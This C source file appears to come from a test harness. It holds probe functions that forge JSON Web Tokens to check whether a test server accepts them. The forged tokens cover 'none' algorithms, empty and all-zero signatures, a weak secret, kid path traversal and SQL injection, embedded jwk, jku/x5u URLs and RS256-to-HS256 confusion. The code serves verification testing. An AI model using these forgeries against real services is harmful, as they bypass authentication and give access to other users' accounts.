/* probes_jwt: forged tokens for the JWT attack deviations (see probes_jwt.h). */
#include "probes_jwt.h"

#include "jwks.h"
#include "jws.h"
#include "probes_util.h"
#include "util.h"

#include <cjson/cJSON.h>
#include <openssl/evp.h>
#include <stdlib.h>
#include <string.h>

/* True when the hello endpoint answers token with 200. */
static bool opens(const struct srv *s, const char *token)
{
  if (!token)
    return false;
  char *a = ac_sprintf("Bearer %s", token);
  struct resp r;
  get_with_auth(&r, s, "/test/hello/x", a);
  bool yes = r.status == 200;
  resp_free(&r);
  free(a);
  return yes;
}

/* T's header with patch's members merged over it, its claims kept, signed by alg and key (alg
 * NULL: the signature is sig as given). Caller frees; NULL on failure. */
static char *forge(const char *t, const char *patch, const char *alg, const char *key, size_t kl,
                   const char *sig)
{
  const char *d1 = t ? strchr(t, '.') : NULL;
  const char *d2 = d1 ? strchr(d1 + 1, '.') : NULL;
  if (!d2)
    return NULL;
  char *h64 = ac_strndup(t, (size_t)(d1 - t));
  size_t hl = 0;
  unsigned char *h = ac_base64url_decode(h64, &hl);
  free(h64);
  cJSON *hj = h ? cJSON_ParseWithLength((const char *)h, hl) : NULL;
  free(h);
  cJSON *pj = cJSON_Parse(patch);
  if (!hj || !pj) {
    cJSON_Delete(hj);
    cJSON_Delete(pj);
    return NULL;
  }
  for (cJSON *c = pj->child; c; c = c->next) {
    cJSON_DeleteItemFromObjectCaseSensitive(hj, c->string);
    cJSON_AddItemToObject(hj, c->string, cJSON_Duplicate(c, 1));
  }
  char *text = cJSON_PrintUnformatted(hj);
  cJSON_Delete(hj);
  cJSON_Delete(pj);
  char *nh = ac_base64url_encode(text, strlen(text));
  free(text);
  char *input = ac_sprintf("%s.%.*s", nh, (int)(d2 - d1 - 1), d1 + 1);
  free(nh);
  char *err = NULL;
  char *s = alg ? ac_jws_sign(alg, key, kl, input, strlen(input), &err) : ac_strdup(sig);
  free(err);
  char *out = s ? ac_sprintf("%s.%s", input, s) : NULL;
  free(s);
  free(input);
  return out;
}

/* alice's token forged as forge() does; true when the endpoint accepts it. */
static bool forged_opens(const struct srv *s, const char *patch, const char *alg, const char *key,
                         size_t kl, const char *sig)
{
  char *t = alice(s);
  char *f = forge(t, patch, alg, key, kl, sig);
  bool yes = opens(s, f);
  free(f);
  free(t);
  return yes;
}

bool p_jwt_weak_secret(const struct srv *s)
{
  /* The deviation's key is a documentation example: it verifies alice's token. */
  char *t = alice(s);
  const char *dot = t ? strrchr(t, '.') : NULL;
  char *err = NULL;
  bool yes = dot && ac_jws_verify("HS256", "changeme", 8, t, (size_t)(dot - t), dot + 1, &err) == 1;
  free(err);
  free(t);
  return yes;
}

bool p_jwt_none_kept(const struct srv *s)
{
  char *t = alice(s);
  const char *dot = t ? strrchr(t, '.') : NULL;
  char *f = dot ? forge(t, "{\"alg\":\"nOnE\"}", NULL, NULL, 0, dot + 1) : NULL;
  bool yes = opens(s, f);
  free(f);
  free(t);
  return yes;
}

bool p_jwt_null_signature(const struct srv *s) { return forged_opens(s, "{}", NULL, NULL, 0, ""); }

bool p_jwt_hmac_empty_key(const struct srv *s)
{
  return forged_opens(s, "{\"alg\":\"HS256\"}", "HS256", "", 0, NULL);
}

bool p_jwt_kid_traversal(const struct srv *s)
{
  return forged_opens(s, "{\"alg\":\"HS256\",\"kid\":\"../../../../../../dev/null\"}", "HS256", "", 0,
                      NULL);
}

bool p_jwt_kid_sqli(const struct srv *s)
{
  return forged_opens(s, "{\"alg\":\"HS256\",\"kid\":\"x' UNION SELECT 'k9' -- \"}", "HS256", "k9", 2,
                      NULL);
}

bool p_jwt_embedded_jwk(const struct srv *s)
{
  const char *key = ac_jws_run_key("RS256");
  char *err = NULL;
  EVP_PKEY *k = ac_jws_load_key(key, strlen(key), &err);
  char *jwk = k ? ac_jwk_public(k, NULL, &err) : NULL;
  char *patch = jwk ? ac_sprintf("{\"alg\":\"RS256\",\"jwk\":%s}", jwk) : NULL;
  bool yes = patch && forged_opens(s, patch, "RS256", key, strlen(key), NULL);
  free(patch);
  free(jwk);
  free(err);
  EVP_PKEY_free(k);
  return yes;
}

static bool key_url(const struct srv *s, const char *member)
{
  const char *key = ac_jws_run_key("RS256");
  char *patch = ac_sprintf("{\"alg\":\"RS256\",\"kid\":\"x\",\"%s\":\"https://probe.invalid/k\"}", member);
  bool yes = forged_opens(s, patch, "RS256", key, strlen(key), NULL);
  free(patch);
  return yes;
}
bool p_jwt_jku(const struct srv *s) { return key_url(s, "jku"); }
bool p_jwt_x5u(const struct srv *s) { return key_url(s, "x5u"); }

bool p_jwt_alg_confusion(const struct srv *s)
{
  struct resp r;
  get_with_auth(&r, s, "/auth/jwks.json", NULL);
  char *err = NULL;
  cJSON *jwk = r.status == 200 ? ac_jwks_select(r.body, r.len, NULL, &err) : NULL;
  resp_free(&r);
  EVP_PKEY *k = jwk ? ac_jwk_to_pkey(jwk, &err) : NULL;
  cJSON_Delete(jwk);
  unsigned char *pem = NULL;
  size_t pl = 0;
  bool yes = k && ac_key_as_secret(k, NULL, "pem-nl", &pem, &pl, &err) == 0 &&
             forged_opens(s, "{\"alg\":\"HS256\"}", "HS256", (const char *)pem, pl, NULL);
  free(pem);
  free(err);
  EVP_PKEY_free(k);
  return yes;
}

bool p_jwt_psychic(const struct srv *s)
{
  unsigned char zero[64] = {0};
  char *z = ac_base64url_encode(zero, sizeof zero);
  bool yes = forged_opens(s, "{}", NULL, NULL, 0, z);
  free(z);
  return yes;
}

bool p_jwt_key_substitution(const struct srv *s)
{
  /* The default server signs HS256: another HMAC key, under the same (absent) kid. */
  return forged_opens(s, "{}", "HS256", "another-key", 11, NULL);
}
